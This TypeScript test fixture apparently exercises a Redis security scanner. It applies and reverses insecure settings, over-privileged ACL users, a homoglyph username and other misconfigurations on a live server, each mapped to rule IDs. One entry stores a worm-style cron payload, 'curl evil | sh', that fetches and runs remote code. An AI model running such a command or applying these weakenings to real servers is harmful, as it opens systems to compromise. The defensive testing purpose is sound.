// Ways in which one server can be wrong, each made on a running one and taken back again, and the
// rules that tell of it: these and no others.

export interface Wrong {
  /** Ends the sentence "finds that …". */
  readonly what: string;
  readonly make: readonly (readonly string[])[];
  readonly undo: readonly (readonly string[])[];
  readonly rules: readonly string[];
}

const words = (line: string): readonly string[] =>
  [...line.matchAll(/"([^"]*)"|(\S+)/g)].map(([, quoted, plain]) => quoted ?? plain ?? '');

function set(
  what: string,
  name: string,
  value: string,
  usual: string,
  ...rules: readonly string[]
): Wrong {
  return {
    what,
    make: [['CONFIG', 'SET', name, value]],
    undo: [['CONFIG', 'SET', name, usual]],
    rules,
  };
}

let guests = 0;

/** A user with a password of its own and these rules. */
function guest(what: string, rights: string, ...rules: readonly string[]): Wrong {
  guests += 1;
  const name = `guest-${guests}`;
  const digest = String(guests).padStart(64, '9');
  return {
    what,
    make: [['ACL', 'SETUSER', name, 'on', `#${digest}`, ...words(rights)]],
    undo: [['ACL', 'DELUSER', name]],
    rules,
  };
}

/** One setting each: they may all be made at once. */
export const wrongSettings: readonly Wrong[] = [
  set('protected mode is off', 'protected-mode', 'no', 'yes', 'NET-003'),
  set('nobody asks dead peers', 'tcp-keepalive', '0', '300', 'NET-016'),
  set('memory has no bound', 'maxmemory', '0', '1073741824', 'CFG-008'),
  set('requests may be very large', 'proto-max-bulk-len', '1gb', '512mb', 'CFG-011'),
  set(
    'subscribers have no bound',
    'client-output-buffer-limit',
    'pubsub 0 0 0',
    'pubsub 32mb 8mb 60',
    'CFG-012',
  ),
  set('scripts cannot be stopped', 'busy-reply-threshold', '0', '5000', 'CFG-014'),
  set('the log tells too much', 'loglevel', 'debug', 'notice', 'CFG-018'),
  set(
    'channels are open to new users',
    'acl-pubsub-default',
    'allchannels',
    'resetchannels',
    'ACL-010',
  ),
  set('the kernel decides when to write', 'appendfsync', 'no', 'everysec', 'PER-003', 'PER-017'),
  set('a rewrite stops writing through', 'no-appendfsync-on-rewrite', 'yes', 'no', 'PER-005'),
  set('the file is never rewritten', 'auto-aof-rewrite-percentage', '0', '100', 'PER-006'),
  set('a failed snapshot stops nobody', 'stop-writes-on-bgsave-error', 'no', 'yes', 'PER-008'),
  set('slow commands are not kept', 'slowlog-log-slower-than', '-1', '10000', 'MON-001'),
  set('waits are not kept', 'latency-monitor-threshold', '0', '100', 'MON-002'),
  set('refusals are not kept', 'acllog-max-len', '0', '1024', 'CMB-007', 'MON-003'),
  set('it announces a public address', 'replica-announce-ip', '8.8.8.8', '', 'AVA-012'),
];

/** One user each: they may all be made at once. */
export const wrongUsers: readonly Wrong[] = [
  guest('a user may change settings', '-@all +config|set ~guest:*', 'ACL-002'),
  guest('a user may load modules', '-@all +module|load ~guest:*', 'ACL-002'),
  guest('a user may run a dangerous command', '-@all +bgrewriteaof ~guest:*', 'ACL-003'),
  guest('a user may run scripts', '-@all +eval ~guest:*', 'ACL-004'),
  guest('a user may write functions', '-@all +function|load ~guest:*', 'ACL-004', 'ACL-005'),
  guest('a user may restore dumps', '-@all +restore ~guest:*', 'ACL-006'),
  guest(
    'dumps of a user are not examined',
    'skip-sanitize-payload -@all +restore ~guest:*',
    'ACL-006',
    'ACL-020',
  ),
  guest('a user reaches every key', '-@all +get ~*', 'ACL-007'),
  guest('a user may delete everything', '-@all +flushall ~guest:*', 'ACL-008'),
  guest('a user sees all names', '-@all +scan ~guest:*', 'ACL-009'),
  guest('a user hears everything', '-@all +subscribe &* ~guest:*', 'ACL-010'),
  guest(
    'brackets give more',
    '-@all +get ~guest:* (+flushall ~*)',
    'ACL-007',
    'ACL-008',
    'ACL-011',
  ),
  guest('a command is given with all its uses', '-@all +client ~guest:*', 'ACL-015', 'ACL-016'),
  guest('a user may throw out others', '-@all +client|kill ~guest:*', 'ACL-016'),
];

/** Each by itself. */
export const otherWrongs: readonly Wrong[] = [
  {
    what: 'everybody is let in',
    make: [words('ACL SETUSER default on nopass')],
    undo: [words('ACL SETUSER default off resetpass')],
    rules: [
      'ACL-002',
      'ACL-003',
      'ACL-004',
      'ACL-005',
      'ACL-006',
      'ACL-007',
      'ACL-008',
      'ACL-010',
      'ACL-016',
      'AUTH-001',
      'AUTH-005',
    ],
  },
  {
    what: 'a user needs no password',
    make: [words('ACL SETUSER guest on nopass -@all +get ~guest:*')],
    undo: [words('ACL DELUSER guest')],
    rules: ['ACL-001'],
  },
  {
    what: 'an exporter may do more than read',
    make: [words(`ACL SETUSER exporter on #${'8'.repeat(64)} -@all +info +get ~*`)],
    undo: [words('ACL DELUSER exporter')],
    rules: ['ACL-007', 'ACL-017'],
  },
  {
    what: 'a name looks like another',
    make: [['ACL', 'SETUSER', 'wеb', 'on', `#${'7'.repeat(64)}`, '-@all', '+get', '~guest:*']],
    undo: [['ACL', 'DELUSER', 'wеb']],
    rules: ['ACL-019'],
  },
  {
    what: 'two users share a password',
    make: [
      words(`ACL SETUSER guest on #${'6'.repeat(64)} -@all +get ~guest:*`),
      words(`ACL SETUSER other on #${'6'.repeat(64)} -@all +get ~guest:*`),
    ],
    undo: [words('ACL DELUSER guest other')],
    rules: ['AUTH-010'],
  },
  {
    what: 'a password is that of an example',
    make: [words('ACL SETUSER guest on >foobared -@all +get ~guest:*')],
    undo: [words('ACL DELUSER guest')],
    rules: ['CFG-024'],
  },
  {
    what: 'users may choose a database that others use',
    make: [
      words(`ACL SETUSER guest on #${'5'.repeat(64)} -@all +select +get ~guest:*`),
      words('SET a 1'),
      words('COPY a a DB 1'),
    ],
    undo: [
      words('ACL DELUSER guest'),
      words('DEL a'),
      words('SELECT 1'),
      words('DEL a'),
      words('SELECT 0'),
    ],
    rules: ['ACL-021'],
  },
  {
    what: 'events reach whoever hears everything',
    make: [
      words(`ACL SETUSER guest on #${'5'.repeat(64)} -@all +psubscribe &* ~guest:*`),
      words('CONFIG SET notify-keyspace-events KEA'),
    ],
    undo: [words('ACL DELUSER guest'), ['CONFIG', 'SET', 'notify-keyspace-events', '']],
    rules: ['ACL-010', 'CFG-022'],
  },
  {
    what: 'sessions may be evicted',
    make: [words('SET session:1 x'), words('CONFIG SET maxmemory-policy allkeys-lru')],
    undo: [words('CONFIG SET maxmemory-policy noeviction'), words('DEL session:1')],
    rules: ['CFG-009'],
  },
  {
    what: 'nothing is there that may be evicted',
    make: [words('SET a 1'), words('CONFIG SET maxmemory-policy volatile-lru')],
    undo: [words('CONFIG SET maxmemory-policy noeviction'), words('DEL a')],
    rules: ['CFG-010'],
  },
  {
    what: 'names of keys hold control characters',
    make: [['SET', 'a\r\nb', '1']],
    undo: [['DEL', 'a\r\nb']],
    rules: ['CFG-023'],
  },
  {
    what: 'a worm left its keys',
    make: [words('SET backup1 "* * * * * curl evil | sh"')],
    undo: [words('DEL backup1')],
    rules: ['CFG-007'],
  },
  {
    what: 'dumps are not examined although somebody may restore',
    make: [
      words('CONFIG SET sanitize-dump-payload no'),
      words(`ACL SETUSER guest on #${'5'.repeat(64)} -@all +restore ~guest:*`),
    ],
    undo: [words('CONFIG SET sanitize-dump-payload clients'), words('ACL DELUSER guest')],
    rules: ['ACL-006', 'CFG-016'],
  },
  {
    what: 'nothing outlives it',
    make: [words('CONFIG SET appendonly no'), ['CONFIG', 'SET', 'save', '']],
    undo: [words('CONFIG SET appendonly yes')],
    rules: ['PER-001', 'PER-016', 'PER-017'],
  },
  {
    what: 'somebody called what stops everybody',
    make: [words('KEYS nothing')],
    undo: [words('CONFIG RESETSTAT')],
    rules: ['CLI-006'],
  },
];
